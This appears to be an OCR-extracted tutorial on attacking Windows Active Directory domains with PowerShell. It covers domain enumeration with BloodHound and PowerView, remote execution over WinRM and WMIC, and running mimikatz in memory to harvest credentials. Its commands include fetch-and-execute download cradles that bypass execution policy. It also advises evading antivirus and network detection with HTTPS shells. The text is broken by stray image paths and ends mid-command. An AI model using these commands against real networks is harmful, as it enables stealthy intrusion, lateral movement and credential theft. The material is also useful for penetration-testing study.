This article is about using different techniques to achieve both enumeration of the domain, popping shells, pivoting and executing exploits to gain further access. Pivoting means to move acrossmachines in an environment. Of course we use theprevalence of Powershell in modern Windows environments to our advantage. We also string together many of these tricks towards efficient and stealthy hacking with a small footprint. Powershhell can do a lot straight into memory without dropping files to disk. BOX01 will be the name of the example box in this article. is also just an example of what would be your local IP address when performing such attacks. Hosting files for download from kali is easy using python -SimpleHTTPServer 80
It can also be wise to here set up a local certificate on the server and use HTTPS/443 to avoid detection by network security controls.
Most of these tricks can be employed with only a domain user.

Downloading/uploading files

Downloading files to boxeswillsometimes be necessary, but don't forget that Powershell has the ability to do so much both remotely and execute straight in memory, which is better when you need to be a ninja or bypass things like Antivirus.
This will download a file to the current folder with the same name. An interactive powershell is not necessary for running these commands. They can be ran straight from CMD.
Powershell.exe -nop -exec bypass -c "IEX (New-Object System.Net.WebClient).Downloadfile('');"
This will download to a specific folder and with a specific name as specified in the second argument of the DownloadFile function.
Powershell.exe -nop -exec bypass -c "IEX (New-Object Net.WebClient).DownloadFile('','C:\tmp\PowerView.ps1');"


BloodHound is a tool for mapping out the entire domain graphically.
Powershell -exec bypass
Import-module sharphound.ps1
Invoke-BloodHound -CollectionMethod ACL,ObjectProps,Default -CompressData -SkipPing


Once a domain user is acquired, a lot can be done in terms of remoting. In AD environments, a shell on a box is barely required given a certain set of criteria. One a domain user as been acquired you can use numerous commands to work remotely on boxes you have access to either through domain or local privileges on the remote box. Windows has three ways of providing authenticated access: credentials, hash or tokens. You can see those differnet types of access below:
If file shares are available on a box you can use dir on the path without ever getting prompted for a password given that you already have a shell as the user you want to authenticate as. This means if you somehow got a shell without credentials or a hash, you still have your token to verify your identity to remote services. See command below for a simple verification.
dir \\BOX01\c$\
If you however don't have a shell but the credentials of a domain user you can use the somewhat old school runas. This _will _prompt you for password, but can be ranwithout a shell from your own machine.
/netonly : Indicates that the user information specified is for remote access only.
runas /netonly /FQDN\user cmd.exe
Run the following command to execute powershell and get on a remote box
runas /netonly /user:customer\ank powershell
Using WMIC, check which users have sessions on a remote machine. Local administrator privileges are not necessary to execute this remotely.
wmic /node:box01.lab.local pathwin32_loggedonuser get antecedent
Powershell supports WinRM natively, which allows remote execution of commands. Here is how to execute a command on a remote box the current user has access to only using tokens, (no prompt for password or PTH). Here the hostname command is used for verification, but you can essentially replace it with any command, like powershell.
Invoke-Command -ComputerName BOX01 -Scriptblock {hostname}
If you want to go even harder, you can set up credentials in Powershell. This is something that Empire can do natively with functions like ps_remoting.
$username = 'DOMAIN\USERNAME'; $password = 'PASSWORD'; $securePassword = ConvertTo-SecureString $password -AsPlainText -Force; $credential = New-Object System.Management.Automation.PSCredential $username, $securePassword; Invoke-Command -ComputerName BOX01 -Credential $credential -ScriptBlock {hostname};


Powerview is a super useful set of tools for enumerating a domain. It is part of the much larger toolset of Powersploit, and development is huge on this, so things change all the time.The script andfull command list for Powerview can be found here:
PowerViewmight be blocked by antivirus, see this funny little article on how to "bypass" it. This actually worked in a real environment in 2018. https://implicitdeny.org/2016/03/powerview-caught-by-sep/
In powerview, there is a super useful function called Find-LocalAdminAccess which enumerates which machines the current user is local administrator on. This can be very useful, as you can then remotely execute things like mimikatz on those boxes straight into memory to get the credentials of domain users. If you need an overview of what groups and users are local admin on every box in the environment you can use Invoke-EnumerateLocalAdmin
If you want to go hail mary and fuck shit up you can run every single module in Powerview:
In PowerUp.ps1, add Invoke-AllChecks at the bottom of the file. This makes the powershell script execute that function straight into memory after the string has been downloaded. This works for anyfunction inside a powershell-script.
Powershell.exe -nop -exec bypass -c “IEX (New-Object Net.WebClient).DownloadString(''); Invoke-AllChecks”


Similar as with powervioew, add a line at the bottom of the ps1 file stating the command you want to execute. Immediate results straight in theterminal!
Powershell.exe -nop -exec bypass -c "IEX (New-Object Net.WebClient).DownloadString('');"


Powershell.exe -nop -exec bypass -c "IEX (New-Object Net.WebClient).DownloadString('');"
We can do the same thing remotely to a box we have access to using WinRM.
Invoke-Command -ComputerName BOX01 -Scriptblock{Powershell.exe -nop -exec bypass -c"IEX (New-Object Net.WebClien
Should also start looking into using HTTPS shells here to avoid detection.kerberoasting is a technique